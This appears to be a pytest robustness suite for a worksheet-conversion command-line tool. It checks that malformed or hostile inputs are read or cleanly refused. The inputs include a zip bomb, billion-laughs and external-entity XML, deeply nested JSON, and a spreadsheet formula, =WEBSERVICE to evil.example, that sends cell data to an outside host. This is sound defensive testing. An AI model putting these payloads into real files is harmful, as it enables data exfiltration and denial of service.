"""Bad worksheets: what cannot be read back is one line, whoever asks for it; nothing else is written."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from tests.robustness.conftest import sound, tree
from tests.robustness.corpus import LOL, OUTSIDE, before_root, changed, wide, zipped
from tests.robustness.forks import Forks
from tests.robustness.mutations import articles, worksheets

SHEET, STRINGS, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"


def xlsx(name: str, change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    return lambda: changed(worksheets()["xlsx"], name, change)


def formulas() -> bytes:
    """A workbook with a formula in every cell."""
    book = openpyxl.load_workbook(io.BytesIO(worksheets()["xlsx"]))
    for sheet in book.worksheets:
        if sheet.title != "Machine":
            for row in sheet.iter_rows():
                for cell in row:
                    if type(cell).__name__ == "Cell":
                        cell.value = '=WEBSERVICE("http://evil.example/"&A1)'
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


BAD: dict[str, tuple[str, Callable[[], bytes]]] = {
    "empty": ("xlsx", lambda: b""),
    "cut": ("xlsx", lambda: worksheets()["xlsx"][:-200]),
    "another": ("xlsx", lambda: zipped(a="b")),
    "bomb": ("xlsx", lambda: zipped(xl_s_workbook_d_xml=bytes(200 * 1024 * 1024))),
    "laughs": ("xlsx", xlsx(SHEET, before_root(LOL))),
    "laughs in UTF-16": ("xlsx", xlsx(SHEET, lambda b: wide(before_root(LOL)(b)))),
    "outside": ("xlsx", xlsx(BOOK, before_root(OUTSIDE))),
    "outside in UTF-16": ("xlsx", xlsx(BOOK, lambda b: wide(before_root(OUTSIDE)(b)))),
    "no sheets": ("xlsx", xlsx(BOOK, lambda b: b"<a/>")),
    "wide merge": (
        "xlsx",
        xlsx(SHEET, lambda b: b.replace(b"</worksheet>", b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>')),
    ),
    "far cell": (
        "xlsx",
        xlsx(SHEET, lambda b: b.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="str"><v>x</v></c></row></sheetData>')),
    ),
    "formulas": ("xlsx", formulas),
    "no JSON": ("json", lambda: b"{"),
    "deep": ("json", lambda: b"[" * 200_000),
    "deep entry": (
        "json",
        lambda: worksheets()["json"].replace(b'"entries": {', b'"entries": {"C9":' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b",", 1),
    ),
    "half a character": ("json", lambda: worksheets()["json"].replace(b'"note": "x"', b'"note": "\\ud800"')),
    "not a number": ("json", lambda: worksheets()["json"].replace(b'"score": ', b'"score": NaN, "s": ')),
    "huge number": ("json", lambda: worksheets()["json"].replace(b'"start": ', b'"start": ' + b"9" * 5_000, 1)),
    "no text": ("json", lambda: b"\xff\xfe\x00\xd8"),
    "zeros": ("csv", lambda: bytes(5_000)),
    "open quote": ("csv", lambda: worksheets()["csv"] + b'"' + b"a,\n" * 5_000),
    "wide": ("csv", lambda: worksheets()["csv"].replace(b"\r\n", b"," * 2_000 + b"\r\n")),
    "an article": ("txt", lambda: articles()["txt"]),
}


@pytest.mark.parametrize("name", BAD)
def test_a_bad_worksheet_is_read_or_refused_in_one_line(name: str, forks: Forks, tmp_path: Path) -> None:
    suffix, make = BAD[name]
    (tmp_path / f"w.{suffix}").write_bytes(make())
    (tmp_path / "b.json").write_bytes(worksheets()["json"])
    (tmp_path / "a.txt").write_bytes(articles()["txt"])
    before = tree(tmp_path)
    for command in (
        ["status", f"w.{suffix}"],
        ["convert", f"w.{suffix}", "-o", "o.json"],
        ["update", f"w.{suffix}", "a.txt", "-o", "o.json"],
        ["merge", f"w.{suffix}", "b.json", "-o", "o.json"],
    ):
        done = forks.run([command[0], "--no-plugins", *command[1:]], tmp_path, seconds=60)
        assert done.code == 2 or not name.startswith(("laughs", "outside", "bomb", "cut", "deep"))
        assert done.code in (0, 2) and not done.late and "Traceback" not in done.err, (name, command, done)
        if done.code == 2:
            sound(done, (name, command))
            assert tree(tmp_path) == before
        else:
            assert tree(tmp_path) <= before | {"o.json"}
            assert command[0] == "status" or b"=WEBSERVICE" not in (tmp_path / "o.json").read_bytes() or name == "formulas"
            (tmp_path / "o.json").unlink(missing_ok=True)
